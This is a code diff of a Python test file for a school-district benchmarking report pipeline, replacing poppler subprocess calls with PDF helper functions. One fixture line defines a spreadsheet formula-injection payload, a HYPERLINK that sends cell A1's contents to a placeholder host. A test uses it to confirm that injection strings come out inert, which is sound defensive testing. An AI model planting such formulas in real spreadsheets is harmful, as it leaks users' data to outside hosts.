@@ -10,7 +10,6 @@ out inert; a withdrawn district has no report; expired reports are purged.
 import csv
 import hashlib
 import io
-import subprocess
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -18,7 +17,6 @@ import dagster as dg
 import polars as pl
 import pytest
 from openpyxl import load_workbook
-from PIL import Image
 
 from benchmarking_assets.cli.participants import demo_participants
 from benchmarking_assets.core.benchmarks import (
@@ -32,16 +30,12 @@ from benchmarking_assets.defs.resources import PrivacySettings, ReportSettings, 
 from benchmarking_assets.store import WarehouseStore, audit, participation
 from benchmarking_assets.store.reports import purge_expired_reports
 from benchmarking_assets_tests.definitions_support import assets_of
-from benchmarking_assets_tests.system_tools import require_executable
+from benchmarking_assets_tests.pdf_support import extract_text, render_pages
 
 YEARS = range(2016, 2021)
 YEAR = 2020
 STATES = (("CA", 6), ("OR", 41), ("NV", 32))
 EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'
-
-
-def poppler(tool: str) -> str:
-    return require_executable(tool, apt_package="poppler-utils")
 
 
 def _u(*parts: object) -> float:
@@ -165,18 +159,13 @@ def test_files_are_listed_under_year_and_leaid(world: dict) -> None:
 def test_pdf_renders_to_non_blank_pages_carrying_the_warehouse_numbers(world: dict) -> None:
     store, leaid = world["store"], world["leaids"][1]
     pdf = paths(store, leaid)["pdf"]
-    out = world["tmp"] / "png"
-    pdftoppm = poppler("pdftoppm")
-    subprocess.run([pdftoppm, "-png", "-r", "40", "-f", "1", "-l", "2", str(pdf), str(out)],
-                   check=True)  # fmt: skip
-    pages = sorted(world["tmp"].glob("png-*.png"))
+    pages = render_pages(pdf, dpi=40, first=1, last=2)
     assert len(pages) == 2
-    for page in pages:
-        gray = Image.open(page).convert("L")
+    for number, page in enumerate(pages, start=1):
+        gray = page.convert("L")
         dark = sum(1 for v in gray.getdata() if v < 200)
-        assert dark > 0.01 * gray.width * gray.height, f"{page.name} looks blank"
-    text = subprocess.run([poppler("pdftotext"), "-layout", str(pdf), "-"], check=True,
-                          capture_output=True, text=True).stdout  # fmt: skip
+        assert dark > 0.01 * gray.width * gray.height, f"page {number} looks blank"
+    text = extract_text(pdf)
     row = warehouse_row(store, leaid)
     grad = peer(store, row["cohort_id"], "graduation")
     name = store.scalar("SELECT lea_name FROM district_data_history WHERE leaid = :l", {"l": leaid})
@@ -239,8 +228,7 @@ def test_injection_strings_come_out_inert(world: dict) -> None:
     negatives = [c for r in comparisons.iter_rows(min_row=2) for c in r
                  if isinstance(c.value, float) and c.value < 0]  # fmt: skip
     assert negatives and all(c.data_type == "n" for c in negatives)
-    text = subprocess.run([poppler("pdftotext"), str(found["pdf"]), "-"], check=True,
-                          capture_output=True, text=True).stdout  # fmt: skip
+    text = extract_text(found["pdf"])
     assert "HYPERLINK" in text  # shown as text in the PDF, escaped for reportlab's markup
 
 
